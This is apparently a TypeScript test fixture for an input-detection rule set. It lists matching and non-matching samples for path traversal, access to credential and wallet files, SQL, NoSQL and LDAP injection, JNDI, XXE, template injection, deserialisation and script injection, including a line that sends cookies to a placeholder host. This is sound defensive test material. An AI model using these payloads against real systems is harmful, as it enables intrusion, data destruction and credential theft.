import type { RuleFixture } from './rule-fixture.ts';

/** By rule. */
export const pathFixture: Readonly<Record<string, RuleFixture>> = {
  'path-traversal': {
    matches: ['../../../../srv/app', '..\\..\\..\\boot.ini'],
    misses: ['../images/a.png', '../../src/index.ts'],
  },
  'path-traversal-encoded': { matches: ['%2e%2e%2fetc', '..%2f..%2fconf'], misses: ['a%2fb%2fc', '%2e is a dot'] },
  'path-null-byte': { matches: ['shell.php%00.jpg', 'a.pdf%00 '], misses: ['100%005', 'photo.jpg'] },
  'path-system-accounts': {
    matches: ['/etc/shadow', '{"path": "/etc/passwd"}'],
    misses: ['the passwd command', '/etc/hosts'],
  },
  'path-key-file': {
    matches: ['~/.ssh/id_rsa', '/home/joe/.aws/credentials'],
    misses: ['~/.ssh/config', '~/projects/aws'],
  },
  'path-process-environment': {
    matches: ['/proc/self/environ', '/proc/4242/mem'],
    misses: ['/proc/cpuinfo', '/proc/meminfo'],
  },
  'path-browser-store': {
    matches: ['AppData/Local/Google/Chrome/User Data/Default/Login Data', 'Mozilla/Firefox/Profiles/x/logins.json'],
    misses: ['Google/Chrome/Application', 'Mozilla/Firefox/firefox.exe'],
  },
  'path-wallet-store': {
    matches: ['~/.bitcoin/wallet.dat', '~/.config/solana/id.json'],
    misses: ['bitcoin.pdf', '~/.config/app/id.txt'],
  },
  'path-network-share': {
    matches: ['{"path": "\\\\evil.test\\share"}', '"uri": "\\\\10.0.0.7\\c"'],
    misses: ['{"path": "C:\\\\Temp"}', '"uri": "https://a.test"'],
  },
};

export const queryFixture: Readonly<Record<string, RuleFixture>> = {
  'sql-union': {
    matches: ["1' UNION SELECT name, pass FROM users--", 'x UNION ALL SELECT null,null--'],
    misses: ['SELECT a FROM t1 UNION SELECT a FROM t2', 'the union selected a new leader'],
  },
  'sql-tautology': {
    matches: ["admin' or '1'='1' --", "x' OR 1=1--"],
    misses: ["it's 'a' or 'b' here", 'tea or coffee'],
  },
  'sql-stacked': {
    matches: ["1'; DROP TABLE users; --", '5); DELETE FROM orders;'],
    misses: ['DROP TABLE staging', 'we drop the table at noon'],
  },
  'sql-time-based': {
    matches: ["1' AND SLEEP(5)", "x'; WAITFOR DELAY '0:0:5'"],
    misses: ['sleep(5) in a test', 'wait for the delay'],
  },
  'sql-catalogue': {
    matches: ["1' union select table_name from information_schema.tables", "x' and (select 1 from sqlite_master)"],
    misses: ['SELECT * FROM information_schema.tables', 'sqlite_master holds the schema'],
  },
  'sql-commands': {
    matches: ["exec xp_cmdshell 'dir'", "COPY t FROM PROGRAM 'id'"],
    misses: ['copy from the program guide', 'a stored procedure'],
  },
  'sql-files': {
    matches: ["select 1 into outfile '/var/www/x.php'", "load_file('/etc/hosts')"],
    misses: ['load the file', 'insert into outfiles values (1)'],
  },
  'sql-obfuscated': {
    matches: ['un/**/ion sel/**/ect', 'char(97)+char(98)+char(99)+char(100)'],
    misses: ['/* union of sets */', 'char(20) not null'],
  },
  'nosql-operator': {
    matches: ['{"password": {"$ne": null}}', 'username[$regex]=.*'],
    misses: ['{"age": {"$gt": 5}}', '{"password": "x"}'],
  },
  'ldap-filter': { matches: ['*)(uid=*', 'x)(|(cn=*'], misses: ['(uid=joe)', '(&(a=b)(c=d))'] },
  'template-injection': { matches: ["{{''.__class__.__mro__}}", '${7*7}'], misses: ['{{ user.name }}', '${total}'] },
  'jndi-lookup': {
    matches: ['${jndi:ldap://a.test/x}', '${${lower:j}ndi:rmi://a.test}'],
    misses: ['JNDI is a Java API', '${env.HOME}'],
  },
  'xml-external-entity': {
    matches: ['<!ENTITY x SYSTEM "file:///etc/hosts">', '<!ENTITY % p SYSTEM "http://a.test/e">'],
    misses: ['<!ENTITY copy "(c)">', '<!DOCTYPE html>'],
  },
  'script-injection': {
    matches: ['<script>fetch("//a.test?"+document.cookie)</script>', '<img src=x onerror=alert(1)>'],
    misses: ['<script src="app.js"></script>', '<img src="a.png" alt="x">'],
  },
  'metadata-address': {
    matches: ['http://169.254.169.254/latest/', 'http://metadata.google.internal/'],
    misses: ['169.254.1.1', 'metadata of a file'],
  },
  'odd-protocol': {
    matches: ['gopher://127.0.0.1:6379/_x', 'url=file:///etc/hosts'],
    misses: ['https://a.test', 'ftp://a.test/f'],
  },
  deserialisation: {
    matches: ['!!python/object/apply:os.system ["id"]', `rO0AB${'Xc3'.repeat(8)}`],
    misses: ['yaml.safe_load(text)', 'pickle the cucumbers'],
  },
  'prototype-pollution': {
    matches: ['{"__proto__": {"admin": true}}', 'a.__proto__.polluted = 1'],
    misses: ['Object.getPrototypeOf(a)', '{"proto": {"a": 1}}'],
  },
  'header-injection': {
    matches: ['%0d%0aSet-Cookie: a=b', 'x\\r\\nLocation: https://a.test'],
    misses: ['Set-Cookie: a=b', '%0d%0a'],
  },
  'code-in-argument': {
    matches: ["__import__('os').system('id')", "require('child_process').exec('id')"],
    misses: ['import os', "require('fs').readFileSync('a')"],
  },
};
